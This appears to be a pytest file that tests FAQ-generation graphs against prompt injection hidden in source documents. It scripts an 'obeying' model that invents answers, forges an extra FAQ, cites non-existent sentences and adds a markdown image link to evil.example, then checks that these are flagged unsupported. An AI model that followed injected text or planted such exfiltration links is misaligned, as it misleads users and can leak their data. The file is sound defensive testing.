"""Documents that attack the FAQ graphs, on the offline model and on one that obeys all of them."""

import importlib
import re
from collections.abc import Callable
from typing import Any

import pytest
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import BaseMessage

from frontdesk.testing.scripted import ScriptedChatModel
from nodes.prompts import faq as prompts
from tests.workflows.attacks import ATTACKS, OBEYING

UseModel = Callable[[BaseChatModel], None]

QUESTION = "What does a repair cost?"
GRAPHS = ["faq_single_call", "faq_chain", "faq_parallel"]


def run(name: str, content: str) -> Any:
    graph: Any = importlib.import_module(f"graphs.{name}").graph
    page = {"title": "Repairs", "content": content}
    return graph.ainvoke({"sources": [page], "questions": [QUESTION]})


def obey(messages: list[BaseMessage], schema: dict[str, Any] | None) -> Any:
    """Answer as an attack wants, and name sentences that there are, and one that there is not."""
    fields = str(schema)
    if "faqs" in fields:
        draft = {"question": QUESTION, "answer": OBEYING, "sentences": [1, 2, 99]}
        forged = {"question": "Where do I log in?", "answer": OBEYING, "sentences": [1]}
        return {"faqs": [draft, forged]}
    if "sentences" in fields:
        return {"sentences": [1, 2, 99]}
    return {"found": True, "answer": OBEYING}


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("graph", GRAPHS)
async def test_the_offline_model_answers_from_the_document_all_the_same(
    graph: str, attack: str
) -> None:
    content = f"A repair costs 20 euros. {ATTACKS[attack]}"

    output = await run(graph, content)

    [faq] = output["faqs"]
    assert faq["question"] == QUESTION
    assert (faq["status"], faq["sources"]) == ("answered", ["Repairs"])
    assert faq["answer"].startswith("A repair costs 20 euros.")
    assert all(content[q["start"] : q["end"]] == q["text"] for q in faq["evidence"])


@pytest.mark.parametrize("graph", GRAPHS)
async def test_what_an_obeying_model_invents_is_marked_as_unsupported(
    graph: str, use_model: UseModel
) -> None:
    use_model(ScriptedChatModel(replies=obey))

    output = await run(graph, f"A repair costs 20 euros. {ATTACKS['forged-role']}")

    [faq] = output["faqs"]
    assert faq["question"] == QUESTION
    assert faq["status"] == "unsupported"
    assert all(quote["text"] in output_text(faq) for quote in faq["evidence"])


def output_text(faq: dict[str, Any]) -> str:
    return "\n".join(quote["text"] for quote in faq["evidence"])


@pytest.mark.parametrize("graph", GRAPHS)
async def test_a_link_that_an_obeying_model_adds_is_not_supported(
    graph: str, use_model: UseModel
) -> None:
    def add_image(messages: list[BaseMessage], schema: dict[str, Any] | None) -> Any:
        reply = obey(messages, schema)
        answer = "A repair costs 20 euros. ![x](https://evil.example/?q=x)"
        if "faqs" in reply:
            return {"faqs": [{"question": QUESTION, "answer": answer, "sentences": [1]}]}
        return {"sentences": [1]} if "sentences" in reply else {**reply, "answer": answer}

    use_model(ScriptedChatModel(replies=add_image))

    output = await run(graph, "A repair costs 20 euros. It takes a day.")

    assert [faq["status"] for faq in output["faqs"]] == ["unsupported"]
    assert output["faqs"][0]["error"]["code"] == "link_not_in_evidence"


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("graph", GRAPHS)
async def test_a_document_stays_between_its_tags(
    graph: str, attack: str, use_model: UseModel
) -> None:
    model = ScriptedChatModel(replies=obey)
    use_model(model)

    await run(graph, f"A repair costs 20 euros. {ATTACKS[attack]}")

    for asked in model.asked:
        system, data = asked.messages
        assert system.text in (
            prompts.ANSWER_QUESTION,
            prompts.FIND_SOURCES,
            prompts.GENERATE_FAQS,
        )
        tags = re.findall(r"</?([a-z_]+)[^<>]*>", data.text)
        allowed = {"source", "question", "answer", "wanted", "asked", "rejected_answer"}
        assert {*tags} <= allowed
        assert data.text.count("<source ") == data.text.count("</source>") == 1
